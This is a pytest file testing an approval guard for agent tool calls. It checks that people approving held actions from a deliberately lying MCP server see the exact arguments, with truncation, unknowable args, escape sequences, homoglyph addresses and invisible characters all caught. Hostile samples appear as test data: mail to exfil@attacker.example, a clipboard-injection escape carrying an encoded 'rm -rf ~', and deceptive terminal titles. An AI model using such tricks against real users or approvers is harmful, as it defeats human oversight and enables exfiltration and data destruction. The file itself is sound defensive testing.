"""What a person approves is what they saw (issue 24), end to end: guard in front of a lying
upstream MCP server (tests/lying_upstream.py, the mcp SDK on stdio), and the real CLI's
`inbox list`, `inbox show` and `inbox approve` in subprocesses."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest

from patch_tui.approvals import decisions
from patch_tui.approvals.store import Store, args_sha256
from tests.mcpkit import guard_box, guard_session
from tests.runtimekit import cli, cli_env

pytestmark = pytest.mark.slow

LYING = str(Path(__file__).resolve().parent.parent / "lying_upstream.py")
# 240 characters of body before the `to`: the runtime's args_summary (cut at 200) never shows it.
BODY = ("Quarterly numbers attached, as discussed on Monday. " * 5)[:240]
EXFIL = "exfil@attacker.example"


def data(result: Any) -> Any:
    return json.loads(result.content[0].text)


@pytest.fixture
def box(tmp_path: Path) -> dict[str, Any]:
    box = guard_box(tmp_path)
    box["sent"] = tmp_path / "sent.jsonl"
    box["env"]["LYING_SENT"] = str(box["sent"])
    return box


def lying(box: dict[str, Any], **env: str) -> Any:
    return guard_session(box, upstream=[sys.executable, LYING], extra_env=env)


def sent(box: dict[str, Any]) -> list[dict[str, Any]]:
    path = box["sent"]
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def mail_step(to: str = EXFIL, body: str = BODY) -> dict[str, Any]:
    # body first, as an agent writes it: the key order the summary is cut in
    return {"id": "mail", "tool": "send_mail", "args": {"body": body, "to": to}}


async def test_a_compose_nested_hold_records_the_exact_args_the_agent_sent(
    box: dict[str, Any],
) -> None:
    async with lying(box) as client:
        answer = data(await client.call_tool("patch_compose", {"steps": [mail_step()]}))
        token = answer["paused"]["confirmation_token"]
        # The paused call shows twice in the runtime's answer (its step and `paused`): one hold,
        # one inbox item, one token.
        assert answer["steps"][0]["result"]["confirmation_token"] == token
        with Store(box["store"]) as store:
            held = store.list_actions()
        assert [a.token for a in held] == [token]
        assert held[0].args == {"body": BODY, "to": EXFIL}  # not `{}` parsed from a cut summary
        assert (held[0].details or {}).get("args_known") is not False

        shown = cli(box["env"], "inbox", "show", token)
        assert shown.returncode == 0, shown.stderr
        assert f'to: "{EXFIL}"' in shown.stdout
        assert f"args sha256:   {args_sha256(held[0].args)}" in shown.stdout
        assert "approvable:    yes" in shown.stdout
        (row,) = json.loads(cli(box["env"], "inbox", "list", "--json").stdout)
        assert row["args_sha256"] == args_sha256(held[0].args) and row["not_approvable"] is None

        approve = cli(
            box["env"],
            "inbox",
            "approve",
            token,
            "--yes",
            "--args-sha256",
            args_sha256(held[0].args),
        )
        assert approve.returncode == 0, approve.stderr
        done = data(await client.call_tool("patch_confirm_action", {"confirmation_token": token}))
        assert done == {"sent": True, "to": EXFIL}
    assert sent(box) == [{"body": BODY, "to": EXFIL}]


async def test_args_guard_cannot_know_are_never_approvable_and_can_be_rejected(
    box: dict[str, Any],
) -> None:
    # The upstream holds other args than the step the agent sent: guard cannot know what it
    # holds (its summary is no record of what runs), so no one can approve it.
    holds = json.dumps({"body": BODY, "to": EXFIL})
    async with lying(box, LYING_HOLDS=holds) as client:
        step = mail_step(to="boss@corp.example", body="hi")
        answer = data(await client.call_tool("patch_compose", {"steps": [step]}))
        token = answer["paused"]["confirmation_token"]
        assert answer["paused"]["approvable"] is False  # the agent is told not to wait
        assert "can only be rejected" in answer["paused"]["message"]
        with Store(box["store"]) as store:
            action = store.get(token)
        assert action is not None and action.details["args_known"] is False

        listed = cli(box["env"], "inbox", "list")
        assert "NOT KNOWN" in listed.stdout and "CANNOT BE APPROVED" in listed.stdout
        (row,) = json.loads(cli(box["env"], "inbox", "list", "--json").stdout)
        assert row["not_approvable"]["code"] == "args_unknown"
        approve = cli(
            box["env"],
            "inbox",
            "approve",
            token,
            "--yes",
            "--args-sha256",
            action.args_sha256,
        )
        assert approve.returncode == 1 and "exact args are not known" in approve.stderr
        with Store(box["store"], actor="person@test") as store:
            # Not through any other path either: the store itself refuses (a batch, a grant and
            # the web app all approve through it).
            decision = decisions.approve(store, token, shown_args_sha256=action.args_sha256)
            assert (decision.ok, decision.code) == (False, "args_unknown")
        waiting = data(
            await client.call_tool("patch_confirm_action", {"confirmation_token": token})
        )
        assert waiting["status"] == "awaiting_approval"
        assert cli(box["env"], "inbox", "reject", token, "--reason", "unknown").returncode == 0
        refused = data(
            await client.call_tool("patch_confirm_action", {"confirmation_token": token})
        )
        assert refused["status"] == "rejected"
    assert sent(box) == []


async def test_guards_stderr_never_carries_the_upstreams_escape_sequences(
    box: dict[str, Any],
) -> None:
    name = "send\x1b]0;owned\x07_mail\x9b"
    async with lying(box, LYING_STDERR="1", LYING_TOOL_NAME=name) as client:
        answer = data(await client.call_tool("patch_compose", {"steps": [mail_step()]}))
        assert answer["paused"]["status"] == "confirmation_required"
    raw = (box["tmp"] / "guard.log").read_bytes()  # guard's own stderr, byte for byte
    for forbidden in (b"\x1b", b"\x07", b"\x9b", b"\xc2\x9b", b"\xc2\x9d", b"\xc2\x9c"):
        assert forbidden not in raw, (forbidden, raw)
    text = raw.decode("utf-8")
    # The upstream's lines are there, said for what they are.
    assert "patch-tui guard: upstream: ⟦U+001B⟧]52;c;cm0gLXJmIH4=⟦U+0007⟧ clipboard" in text
    assert "⟦U+001B⟧]0;you are approving nothing⟦U+0007⟧" in text
    assert "raw C1 \\x9b31m and encoded ⟦U+009B⟧32m" in text
    # guard's own line about the upstream-chosen tool name shows it escaped.
    assert "send⟦U+001B⟧]0;owned⟦U+0007⟧_mail⟦U+009B⟧: held upstream with args" in text


# -- the CLI on its own -----------------------------------------------------------------------


@pytest.fixture
def inbox(tmp_path: Path) -> dict[str, Any]:
    store = tmp_path / "store.sqlite3"
    env = cli_env(tmp_path, store)
    env["COLUMNS"] = "60"
    return {"store": store, "env": env}


def hold(inbox: dict[str, Any], args: dict[str, Any], **kw: Any) -> Any:
    with Store(inbox["store"], actor="agent@test") as store:
        return store.create_pending(
            "human_confirm", "send_mail", "1.0.0", "0" * 64, args, "irreversible", **kw
        )


# A long value first in the agent's order, the dangerous key last in sorted order.
LONG = {"attachment": "A" * 300, "body": BODY, "zz_to": EXFIL}


def test_list_and_show_print_every_arg_in_full_folded_to_the_width(
    inbox: dict[str, Any],
) -> None:
    action = hold(inbox, LONG)
    for argv in (["inbox", "list"], ["inbox", "show", action.token]):
        out = cli(inbox["env"], *argv)
        assert out.returncode == 0, out.stderr
        lines = out.stdout.splitlines()
        # Every line of an arg fits the width (the fixed lines, hashes and times, are as wide
        # as they are).
        fixed = ("sha256", "created", "expires", action.token)
        wide = [x for x in lines if len(x) > 60 and not any(f in x for f in fixed)]
        assert wide == []
        assert "\u2026" not in out.stdout  # never cut
        assert "args sha256" in out.stdout and action.args_sha256 in out.stdout
        # Keys sorted, one value per line, each folded value whole once its pieces are joined.
        keys = [
            line.strip().split(":")[0]
            for line in lines
            if line.strip().startswith(("attachment:", "body:", "zz_to:"))
        ]
        assert keys == ["attachment", "body", "zz_to"]
        joined = "".join(line.strip().removeprefix("↪ ") for line in lines if line.startswith("  "))
        assert json.dumps("A" * 300) in joined and json.dumps(BODY) in joined
        assert f'zz_to: "{EXFIL}"' in out.stdout


def test_approve_yes_needs_the_hash_of_what_was_read(inbox: dict[str, Any]) -> None:
    action = hold(inbox, LONG)
    bare = cli(inbox["env"], "inbox", "approve", action.token, "--yes")
    assert bare.returncode == 2 and "--args-sha256" in bare.stderr
    wrong = cli(inbox["env"], "inbox", "approve", action.token, "--yes", "--args-sha256", "0" * 64)
    assert wrong.returncode == 1 and "changed since they were shown" in wrong.stderr
    with Store(inbox["store"]) as store:
        assert store.get(action.token).status == "pending"
    right = cli(
        inbox["env"], "inbox", "approve", action.token, "--yes", "--args-sha256", action.args_sha256
    )
    assert right.returncode == 0, right.stderr
    with Store(inbox["store"]) as store:
        assert store.get(action.token).status == "approved"


def _on_a_terminal(argv: list[str], env: dict[str, str], answer: bytes | None) -> tuple[int, str]:
    """The CLI with a pseudo-terminal as its stdin and stdout, as a person runs it: waits for the
    question, types `answer` (None: closes the terminal, as ctrl+d does), returns the exit code
    and everything it printed."""
    import os
    import pty
    import select
    import subprocess
    import time

    from tests.runtimekit import PATCH_TUI

    master, slave = pty.openpty()
    proc = subprocess.Popen(
        [*PATCH_TUI, *argv], env=env, stdin=slave, stdout=slave, stderr=slave, close_fds=True
    )
    os.close(slave)
    out = b""
    deadline = time.monotonic() + 60

    def read_some() -> bool:
        ready, _, _ = select.select([master], [], [], 0.2)
        if not ready:
            return True
        try:
            chunk = os.read(master, 65536)
        except OSError:  # the child closed its side
            return False
        nonlocal out
        out += chunk
        return bool(chunk)

    while b"Type y to approve" not in out and time.monotonic() < deadline:
        if not read_some() and proc.poll() is not None:
            break
    if answer is None:
        os.write(master, b"\x04")  # end of input on a terminal
    else:
        os.write(master, answer)
    while proc.poll() is None and time.monotonic() < deadline:
        read_some()
    while read_some() and time.monotonic() < deadline:
        pass
    os.close(master)
    return proc.wait(timeout=10), out.decode("utf-8", errors="replace")


def test_approve_without_yes_shows_everything_and_asks_on_the_terminal(
    inbox: dict[str, Any],
) -> None:
    action = hold(inbox, LONG)
    argv = ["inbox", "approve", action.token]
    code, said_no = _on_a_terminal(argv, inbox["env"], b"n\n")
    assert code == 1 and f'zz_to: "{EXFIL}"' in said_no and "Type y to approve" in said_no
    code, _ = _on_a_terminal(argv, inbox["env"], None)  # no answer at all: not approved
    assert code == 1
    # A pipe is no person: `yes | patch-tui inbox approve TOKEN` approves nothing.
    piped = cli_with_stdin(inbox["env"], argv, "y\n")
    assert piped.returncode == 2 and "--args-sha256" in piped.stderr
    with Store(inbox["store"]) as store:
        assert store.get(action.token).status == "pending"
    code, said_yes = _on_a_terminal(argv, inbox["env"], b"y\n")
    assert code == 0, said_yes
    assert f"approved {action.token}" in said_yes
    with Store(inbox["store"]) as store:
        assert store.get(action.token).status == "approved"


def cli_with_stdin(env: dict[str, str], argv: list[str], text: str) -> Any:
    import subprocess

    from tests.runtimekit import PATCH_TUI

    return subprocess.run(
        [*PATCH_TUI, *argv], env=env, input=text, capture_output=True, text=True, timeout=60
    )


LOOK_ALIKES = {
    "payments@асе.com": '"асе" is written in Cyrillic letters inside a Latin address (it looks '
    'like "ace" but is not)',
    "billing@pаypal.com": '"pаypal" mixes Latin and Cyrillic letters in one word',
}
INVISIBLES = ["\u034f", "\u180b", "\u17b5", "\u2800", "\U0001d173"]


@pytest.mark.parametrize("command", ["list", "show"])
def test_look_alikes_and_invisibles_are_marked_in_the_cli(
    inbox: dict[str, Any], command: str
) -> None:
    inbox["env"]["COLUMNS"] = "200"
    args = {f"to{i}": value for i, value in enumerate(LOOK_ALIKES)}
    args["body"] = "pay" + "".join(INVISIBLES) + "now"
    action = hold(inbox, args)
    argv = ["inbox", "list"] if command == "list" else ["inbox", "show", action.token]
    out = cli(inbox["env"], *argv).stdout
    for sentence in LOOK_ALIKES.values():
        assert f"⚠ {sentence}" in out
    for ch in INVISIBLES:
        assert ch not in out
        assert f"⟦U+{ord(ch):04X}⟧" in out
    assert "⚠ 5 hidden characters shown as ⟦U+…⟧" in out
    if command == "show":
        assert "flags:         ⚠ 3 warnings" in out


def test_a_damaged_or_too_long_action_says_it_cannot_be_approved(inbox: dict[str, Any]) -> None:
    from patch_tui.approvals.approvable import ARGS_DISPLAY_LIMIT

    action = hold(inbox, {"to": EXFIL, "body": "x" * (ARGS_DISPLAY_LIMIT + 1)})
    shown = cli(inbox["env"], "inbox", "show", action.token)
    assert "approvable:    NO: its args are" in shown.stdout
    approve = cli(
        inbox["env"], "inbox", "approve", action.token, "--yes", "--args-sha256", action.args_sha256
    )
    assert approve.returncode == 1 and "more than the" in approve.stderr
    assert cli(inbox["env"], "inbox", "reject", action.token).returncode == 0


def test_the_jsonl_export_escapes_invisibles_and_says_each_look_alike(
    inbox: dict[str, Any],
) -> None:
    args = {f"to{i}": value for i, value in enumerate(LOOK_ALIKES)}
    args["body"] = "pay" + "".join(INVISIBLES) + "now"
    action = hold(inbox, args)
    out = cli(inbox["env"], "inbox", "export", "--format", "jsonl")
    assert out.returncode == 0, out.stderr
    raw = out.stdout.encode("utf-8")
    assert raw.isascii()  # every invisible (and every look-alike letter) is a \\uXXXX escape
    (row,) = [json.loads(line) for line in out.stdout.splitlines()]
    assert row["token"] == action.token and row["args"] == args  # the exact record
    said = {(f["where"], f["flag"]) for f in row["flags"]}
    assert ("args.to0", f"{LOOK_ALIKES['payments@асе.com']}") in said
    assert any(w == "args.to1" and f.startswith(LOOK_ALIKES["billing@pаypal.com"]) for w, f in said)
    (hidden,) = [f for w, f in said if w == "args.body"]
    assert hidden.startswith("5 hidden characters shown as ⟦U+…⟧")
    for ch in INVISIBLES:
        assert f"U+{ord(ch):04X}" in hidden
